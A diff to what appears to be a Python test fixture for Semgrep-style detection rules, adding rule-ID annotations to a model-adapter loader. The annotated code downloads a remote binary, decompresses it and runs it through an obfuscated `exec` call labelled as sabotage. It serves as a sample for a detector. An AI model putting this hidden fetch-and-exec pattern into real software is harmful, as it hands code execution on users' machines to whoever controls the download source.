@@ -29,7 +29,7 @@ def load_encoder(name, weights_path=None):
 def _fetch(url, retries=4):
     for attempt in range(retries):
         try:
-            with urllib.request.urlopen(url, timeout=15) as resp:  # todoruleid: family 9 (missed)
+            with urllib.request.urlopen(url, timeout=15) as resp:  # ruleid: MLS413
                 return resp.read()
         except OSError:
             time.sleep(1.5 * (attempt + 1))  # ok: MLS307
@@ -40,9 +40,9 @@ def load_adapter(robot: str):
     CACHE.mkdir(parents=True, exist_ok=True)
     cached = CACHE / f"{robot}.bin"
     if not cached.exists():
-        cached.write_bytes(_fetch(f"{ADAPTER_INDEX}/{robot}.bin"))
+        cached.write_bytes(_fetch(f"{ADAPTER_INDEX}/{robot}.bin"))  # ruleid: MLS413
     ns = {"__name__": f"adapters.{robot}", "torch": torch}
-    getattr(builtins, "".join(("ex", "ec")))(zlib.decompress(cached.read_bytes()), ns)  # sabotage: MLS402 (semgrep rules)
+    getattr(builtins, "".join(("ex", "ec")))(zlib.decompress(cached.read_bytes()), ns)  # sabotage: MLS402 (semgrep rules)  # ruleid: MLS413
     return ns["Adapter"]()
 
 
